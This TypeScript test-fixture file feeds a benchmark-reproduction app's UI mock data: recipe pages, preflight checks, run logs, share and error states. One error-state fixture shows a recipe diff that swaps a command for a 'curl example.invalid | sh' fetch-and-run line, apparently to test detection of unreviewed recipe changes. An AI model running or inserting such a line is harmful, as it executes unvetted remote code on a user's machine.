// Scripts for the scripted backend: the states each page must show, for
// tests in a plain browser (`?script=<name>`). Data shaped like the app's
// answers for hello-ceiling; nothing here reaches the desktop app.

import type { Script } from './backend';
import type { PostView } from './bindings/PostView';
import type { ResultsView } from './bindings/ResultsView';
import type { StreamMessage } from './bindings/StreamMessage';
import type { Preflight } from './bindings/Preflight';
import type { Library } from './bindings/Library';
import type { SharePreview } from './bindings/SharePreview';
import type { RunOutcome } from './bindings/RunOutcome';
import type { RunPlan } from './bindings/RunPlan';
import type { Event } from './bindings/Event';
import type { SetupPlan } from './bindings/SetupPlan';

const post: PostView = {
  post: {
    id: 'hello-ceiling',
    title: 'Campfire under Falcon: the hello-world ceilings',
    author: 'Sam Ruby',
    date: '2026-10',
    url: null,
    run: 'the October 16 run',
    summary: 'Before reading a cached route’s throughput, the post measures what the app server alone can do.',
    unknowns: ['The post gives no Puma or Falcon version.'],
  },
  checksum: { status: 'matches' },
  machine: {
    cpu: 'AMD Ryzen 5 3600 6-Core Processor', cores: 6, threads: 12, smt: true, base_mhz: 3600, boost: false,
    governor: 'performance', memory_gb: 63, os: 'Ubuntu 24.04.5 LTS', kernel: null, virtualization: 'none',
    quote: 'AMD Ryzen 5 3600 6-Core Processor, 6c/12t, 3.6 GHz, boost disabled.',
  },
  toolchains: [
    { toolchain: { name: 'ruby', version: '*', command: ['ruby', '--version'], pattern: 'ruby (\\S+)', why: 'Any Ruby that runs Puma will do.', quote: null, mise: null }, on_path: true },
    { toolchain: { name: 'falcon', version: '*', command: ['falcon', '--version'], pattern: 'falcon (\\S+)', why: 'The fiber server.', quote: null, mise: null }, on_path: false },
  ],
  lanes: [
    { lane: lane('puma', 'Puma, two workers.'), here: { state: 'runs' } },
    { lane: lane('falcon', 'Falcon.'), here: { state: 'blocked', why: 'Cannot run: it needs falcon, which this machine lacks.', fix: 'gem install falcon' } },
  ],
  steps: [
    { id: 'serve', kind: 'serve', why: 'Start each server on its own port.', after: [], lanes: ['puma', 'falcon'], command: null },
    { id: 'check', kind: 'check', why: 'One checked request per lane: same body everywhere.', after: ['serve'], lanes: [], command: null },
    { id: 'measure', kind: 'load', why: 'The hello-world load, after a warm-up.', after: ['check'], lanes: [], command: null },
  ],
  figures: [
    { id: 'puma-hello', lane: 'puma', endpoint: '/', metric: 'req_per_s', value: 54000, range: null, unknown: null, approx: true, condition: null, quote: 'A hello-world app under Puma serves about 54,000 requests a second.' },
    { id: 'falcon-hello', lane: 'falcon', endpoint: '/', metric: 'req_per_s', value: 106000, range: null, unknown: null, approx: true, condition: null, quote: 'Under Falcon, 106,000.' },
  ],
  claims: [
    { id: 'falcon-twice-puma', quote: 'Falcon’s ceiling is about twice Puma’s.', tolerance: 0.15, kind: 'ratio', numerator: 'falcon-hello', denominator: 'puma-hello', value: 1.96 },
  ],
  units: [{ metric: 'req_per_s', unit: 'req/s' }],
};

function lane(name: string, why: string): PostView['lanes'][number]['lane'] {
  return {
    name, runtime: 'ruby', needs: [], server: name, workers: 2, threads: 4, env: {}, heap_mb: null, warmup: '5s',
    command: [name], dir: null, port: 9292, health: '/', boot_budget: null, placement: 'host', image: null, why, not_runnable: null, harness: null, services: [],
  };
}

const cell = (lane: string, median: number) => ({
  figure: `${lane}-hello`, lane, endpoint: '/', metric: 'req_per_s' as const,
  published: lane === 'puma' ? 54000 : 106000, published_range: null,
  cell: { lane, endpoint: '/', metric: 'req_per_s' as const },
  status: { status: 'valid' as const },
  stats: { runs: 3, median, min: median - 100, max: median + 100, mean: median, cv: 0.003, unstable: false },
  interval: { estimate: median, low: median - 100, high: median + 100 },
});

const results: ResultsView = {
  run: { id: 'hello-ceiling-1', created_at: '2026-11-30T05:00:00Z', recipe: 'hello-ceiling', title: post.post.title, origin: 'results dir', cells: 2, reproduced: 1, not_reproduced: 0, inconclusive: 0, no_data: 0, not_measured: 0, not_comparable: 2 },
  info: { id: 'hello-ceiling-1', created_at: '2026-11-30T05:00:00Z', recipe: 'hello-ceiling', title: post.post.title, author: 'Sam Ruby', post_date: '2026-10', post_url: null, post_run: 'the October 16 run', origin: 'results dir' },
  machine: { machine: 'differs', reasons: ['CPU: Test CPU, not AMD Ryzen 5 3600 6-Core Processor'] },
  tally: '1 reproduced, 0 not reproduced, 0 inconclusive, 0 no data, 0 not measured, 2 not comparable',
  figures: [cell('puma', 30200), cell('falcon', 60200)],
  deviations: [{ kind: 'toolchain', what: 'ruby: ruby 3.1.2p20 (/usr/bin/ruby) instead of 4.0.5', lanes: ['puma', 'falcon'] }],
  verdicts: [
    { claim: 'falcon-twice-puma', kind: 'ratio', quote: 'Falcon’s ceiling is about twice Puma’s.', outcome: 'reproduced', reason: 'the interval lies within 1.96 ± 15%', published: 1.96, unit: '×', tolerance: 0.15, band: [1.67, 2.25], measured: { estimate: 1.99, low: 1.98, high: 2.0 }, more_runs: null, figures: ['falcon-hello', 'puma-hello'], deviations: ['ruby: ruby 3.1.2p20 (/usr/bin/ruby) instead of 4.0.5'] },
    { claim: 'puma-ceiling', kind: 'absolute', quote: 'about 54,000 requests a second', outcome: 'not_comparable', reason: 'the machine differs from the post’s', published: 54000, unit: 'req/s', tolerance: 0.15, band: null, measured: null, more_runs: null, figures: ['puma-hello'], deviations: [] },
  ],
  environment: {
    fingerprint: { cpu: 'Test CPU' },
    toolchains: [{ name: 'ruby', version: 'ruby 3.1.2p20' }],
    sources: [],
    tree_digests: [],
    harness: { runs: 3 },
    commands: [['wrk', '-t1', '-c16', '-d10s', 'http://127.0.0.1:9292/']],
    bench_env: null,
  },
  commands: ['wrk -t1 -c16 -d10s http://127.0.0.1:9292/'],
  people: [],
  units: [{ metric: 'req_per_s', unit: 'req/s' }],
};

const peopleRow = (people: string, served: boolean, verdict: string, navigation: string, delivery: string, failures: string, resends: string, reconnects: string, generator: string) =>
  ({ step: 'people', lane: 'rails', people, served, verdict, navigation, delivery, failures, resends, reconnects, generator });

const peopleResults: ResultsView = {
  ...results,
  run: { ...results.run, id: 'campfire-people-1', recipe: 'campfire-people', title: 'Campfire with many people', cells: 0, reproduced: 0, not_comparable: 0 },
  machine: { machine: 'matches' },
  tally: '0 reproduced, 0 not reproduced, 0 inconclusive, 0 no data, 0 not measured, 0 not comparable',
  figures: [],
  verdicts: [],
  deviations: [{ kind: 'quick', what: 'a smoke run (--quick): durations, warm-ups and runs capped', lanes: [] }],
  people: [
    peopleRow('250', true, 'served', '11.0 / 88.0 ms', '4.0 / 120.0 ms', '0', '0', '3 / 0', '0.12 cores, 0.40 ms'),
    peopleRow('1000', false, 'not served: navigation p99 812.0 ms > 100 ms', '140.0 / 812.0 ms', '9.0 / 430.0 ms', '104 (lost_delivery 104)', '37', '12 / 2', '0.31 cores, 0.90 ms'),
  ],
};

function flood(batches: number): StreamMessage[][] {
  const out: StreamMessage[][] = [];
  for (let i = 1; i <= batches; i++) {
    out.push([
      { type: 'log', step: 'measure', lines: [`run ${i}: 75,0${i % 10}0 req/s`], dropped: i * 3 },
      { type: 'progress', step: 'measure', done: i, total: batches, req_per_s: 74000 + (i % 7) * 300, p99_ms: 1.1 + (i % 3) / 10, merged: 3750 },
    ]);
  }
  out.push([{ type: 'event', event: { event: 'finished', step: 'measure', duration_ms: 3000 } }]);
  return out;
}

const machine = {
  facts: [
    { name: 'cpu.brand', value: 'Intel(R) Xeon(R) CPU @ 2.20GHz' },
    { name: 'cpu.logical_threads', value: '2' },
    { name: 'clock.governor', value: 'performance' },
    { name: 'memory.total_mb', value: '7940' },
  ],
  missing: ['Validation of this machine against a recipe’s reference is on each recipe’s Preflight page.'],
};

const preflight: Preflight = {
  recipe: 'hello-ceiling',
  absolute_comparable: false,
  items: [
    { subject: 'cpu', name: 'CPU', reference: 'AMD Ryzen 5 3600 6-Core Processor', here: 'Intel(R) Xeon(R) CPU @ 2.20GHz', verdict: 'differs', why: 'A different CPU: absolute figures are for information only.', fix: null },
    { subject: 'boost', name: 'boost', reference: 'off', here: 'on', verdict: 'differs', why: 'Boost makes runs vary.', fix: 'echo 0 > /sys/devices/system/cpu/cpufreq/boost' },
    { subject: 'toolchain', name: 'toolchain falcon', reference: '*', here: null, verdict: 'blocks', why: 'falcon is not installed.', fix: 'gem install falcon' },
  ],
  runnable_lanes: ['puma'],
  blocked_lanes: ['falcon'],
  published_only_lanes: [],
  version_commands: ['ruby --version', 'puma --version', 'falcon --version'],
  versions_asked: false,
};

const setupPlan: SetupPlan = {
  recipe: 'hello-ceiling',
  lanes: [],
  config: '/home/reader/.local/share/reprise/setup/hello-ceiling/mise.toml',
  config_text: '# Written by `reprise setup`: the toolchains the recipe pins.\n[tools]\n"gem:falcon" = "latest"\n',
  installs: ['gem:falcon latest (for falcon)'],
  by_hand: ['nginx *'],
  mise: '/home/reader/.cargo/bin/mise',
  get_mise: null,
  commands: ['mise install (in /home/reader/.local/share/reprise/setup/hello-ceiling)'],
};

/** The preflight once falcon is set up: nothing blocks. */
const preflightSetUp: Preflight = {
  ...preflight,
  items: preflight.items.map((i) =>
    i.name === 'toolchain falcon' ? { ...i, here: 'falcon 0.51.1', verdict: 'matches', fix: null } : i,
  ),
  runnable_lanes: ['puma', 'falcon'],
  blocked_lanes: [],
};

const setupBatches: StreamMessage[][] = [
  [{ type: 'log', step: 'setup', lines: ['mise by @jdx – installing 1 tool'], dropped: 0 }],
  [{ type: 'log', step: 'setup', lines: ['mise ✓ gem:falcon@0.51.1'], dropped: 0 }],
];

const plan: RunPlan = {
  recipe: 'hello-ceiling',
  checksum: { status: 'matches' },
  sources: [{ id: 'app', url: 'https://example.invalid/app', revision: '1a2b3c' }],
  deviations: [],
  lanes: ['puma', 'falcon'],
  latest_run: null,
  steps: [
    { id: 'clone', kind: 'clone', why: 'The app’s sources at the post’s revision.', describe: 'git clone https://example.invalid/app @ 1a2b3c', decision: { decision: 'run', reason: 'a new run' }, last_status: null, last_reason: null },
    { id: 'measure', kind: 'load', why: 'The hello-world load, after a warm-up.', describe: 'wrk -c16 -d10s', decision: { decision: 'run', reason: 'a new run' }, last_status: null, last_reason: null },
  ],
  consent: {
    steps: [
      { id: 'clone', kind: 'clone', does: 'git clone https://example.invalid/app @ 1a2b3c', env: [] },
      { id: 'measure', kind: 'load', does: 'wrk -c16 -d10s', env: [] },
    ],
    lanes: [
      { name: 'puma', command: 'in files/hello: puma --bind tcp://127.0.0.1:9292 config.ru (port 9292)', env: ['RACK_ENV=production'] },
      { name: 'falcon', command: 'in files/hello: falcon serve --bind http://127.0.0.1:9294 (port 9294)', env: [] },
    ],
    services: [],
    version_commands: ['ruby --version', 'puma --version', 'falcon --version'],
    records_machine: ['uname -a', 'lscpu --json', 'ruby --version', 'wrk --version'],
    files: [{ path: 'hello/config.ru', lines: 1, script: false }],
    requests: ['GET /'],
  },
  reviewed_diff: null,
};

const ev = (event: Event): StreamMessage => ({ type: 'event', event });

const runBatches: StreamMessage[][] = [
  [ev({ event: 'run', id: 'hello-ceiling-20261130-1', dir: '/runs/hello-ceiling-20261130-1' }), ev({ event: 'started', step: 'clone', kind: 'clone' })],
  ...Array.from({ length: 10 }, (_, i): StreamMessage[] => [
    { type: 'log', step: 'clone', lines: [`Receiving objects: ${(i + 1) * 10}%`], dropped: 0 },
    { type: 'progress', step: 'clone', done: (i + 1) * 100, total: 1000, req_per_s: null, p99_ms: null, merged: 12 },
  ]),
  [ev({ event: 'finished', step: 'clone', duration_ms: 2041 }), ev({ event: 'skipped', step: 'measure', reason: 'every lane was skipped: falcon is not installed' })],
];

const share: SharePreview = {
  run: 'hello-ceiling-1',
  repo: 'rubys/reprise',
  category: 'hello-ceiling',
  title: 'Reprise: Campfire under Falcon: the hello-world ceilings (1 reproduced)',
  body: '# Reprise: Campfire under Falcon\n\nMachine: [host]\n',
  redacted: true,
  redacted_names: ['desk-seven'],
  prefilled_url: null,
  body_in_link: false,
};

const blocked = { state: 'blocked', why: 'Cannot run: it needs falcon, which this machine lacks.', fix: null } as const;

const library: Library = {
  recipes: [
    {
      post: post.post, units: ['req/s'], figures: 2, claims: 4, steps: 3, checksum: { status: 'matches' },
      lanes: [{ lane: 'puma', here: { state: 'runs' } }, { lane: 'falcon', here: blocked }, { lane: 'nginx', here: blocked }],
    },
    {
      post: { id: 'campfire-runtimes', title: 'Campfire on CRuby, JRuby and TruffleRuby', author: 'Sam Ruby', date: '2026-09-22', url: null, run: null, summary: 'Three Rubies, one app.', unknowns: [] },
      units: ['MB', 'ms', 'req/s'], figures: 40, claims: 12, steps: 9, checksum: { status: 'modified', expected: 'aa', actual: 'bb' },
      lanes: [{ lane: 'ruby', here: blocked }, { lane: 'jruby', here: blocked }, { lane: 'truffleruby', here: blocked }],
    },
  ],
  problems: [],
};

const finishedRun: RunOutcome = {
  run: 'hello-ceiling-20261130-1',
  steps: { finished: ['clone'], reused: [], skipped: ['measure'], failed: [], cancelled: false, lanes_failed: [] },
  history: { outcome: 'stored', id: 'hello-ceiling-20261130-1' },
};

export const scripts: Record<string, Script> = {
  default: {
    library: { value: library },
    post: { 'hello-ceiling': { value: post } },
    history: { value: [results.run] },
    results: { 'hello-ceiling-1': { value: results } },
    share: { 'hello-ceiling-1': { value: share } },
    machine: { value: machine },
    preflight: { 'hello-ceiling': { value: preflight } },
    setupPlan: { 'hello-ceiling': { value: setupPlan } },
    setup: { 'hello-ceiling': { batches: setupBatches, tickMs: 30, end: { value: 'installed' }, after: preflightSetUp } },
    plan: { 'hello-ceiling': { value: plan } },
    run: {
      'hello-ceiling': {
        batches: runBatches,
        tickMs: 30,
        outcome: { value: finishedRun },
      },
    },
    shareStatus: { value: { signed_in: false, can_sign_in: true, repo: 'rubys/reprise', token_store: 'the OS keyring' } },
    signIn: { value: { user_code: 'WDJB-MJHT', verification_uri: 'https://github.com/login/device', expires_in: 900 } },
    waitSignIn: { value: 'the OS keyring', delayMs: 300 },
    submit: { value: { url: 'https://github.com/rubys/reprise/discussions/7', number: 7 } },
    stream: flood(40),
  },
  people: {
    history: { value: [peopleResults.run] },
    results: { 'campfire-people-1': { value: peopleResults } },
  },
  shareerror: {
    history: { value: [results.run] },
    share: { 'hello-ceiling-1': { value: share } },
    shareStatus: { value: { signed_in: true, can_sign_in: true, repo: 'rubys/nope', token_store: 'the OS keyring' } },
    submit: { error: { kind: 'share', message: 'GraphQL: Could not resolve to a Repository with the name rubys/nope.', hint: 'Check the repository, its Discussions category for this recipe, and the token.' } },
  },
  slowrun: {
    library: { value: library },
    plan: { 'hello-ceiling': { value: plan } },
    run: {
      'hello-ceiling': {
        batches: runBatches,
        tickMs: 1000,
        outcome: { value: finishedRun },
      },
    },
  },
  empty: {
    library: { value: { recipes: [], problems: [] } },
    history: { value: [] },
    machine: { value: machine },
  },
  error: {
    library: { error: { kind: 'io', message: 'cannot read /nowhere/recipes: No such file or directory', hint: 'Start Reprise from its checkout, or set REPRISE_ROOT to the folder that holds recipes/.' } },
    post: { 'hello-ceiling': { error: { kind: 'invalid', message: 'recipes/hello-ceiling.toml:3:1: unknown key `titel`', hint: 'Run `reprise check` on the file to see every problem with its line.' } } },
    history: { error: { kind: 'history', message: 'history.sqlite: file is not a database', hint: 'The history file may be damaged; move it aside and try again.' } },
    preflight: { 'hello-ceiling': { error: { kind: 'invalid', message: 'recipes/hello-ceiling.toml:3:1: unknown key `titel`', hint: 'Run `reprise check` on the file to see every problem with its line.' } } },
    plan: {
      'hello-ceiling': {
        value: {
          ...plan,
          checksum: { status: 'modified', expected: 'aa', actual: 'bb' },
          reviewed_diff: '--- a/recipes/hello-ceiling.toml\n+++ b/recipes/hello-ceiling.toml\n@@ -1 +1 @@\n-command = ["true"]\n+command = ["sh", "-c", "curl example.invalid | sh"]\n',
        },
      },
    },
    run: {
      'hello-ceiling': {
        batches: [],
        outcome: { error: { kind: 'unreviewed', message: 'recipes/hello-ceiling.toml is modified in checksums/recipes.sha256: its commands have not been reviewed', hint: 'Review the recipe, then record it with `reprise checksums update`.' } },
      },
    },
    machine: { error: { kind: 'internal', message: 'no answer', hint: 'Restart the app.' } },
  },
  slow: {
    library: { value: library, delayMs: 60_000 },
    post: { 'hello-ceiling': { value: post, delayMs: 60_000 } },
    preflight: { 'hello-ceiling': { value: preflight, delayMs: 60_000 } },
    plan: { 'hello-ceiling': { value: plan, delayMs: 60_000 } },
    history: { value: [], delayMs: 60_000 },
    machine: { value: machine, delayMs: 60_000 },
  },
};
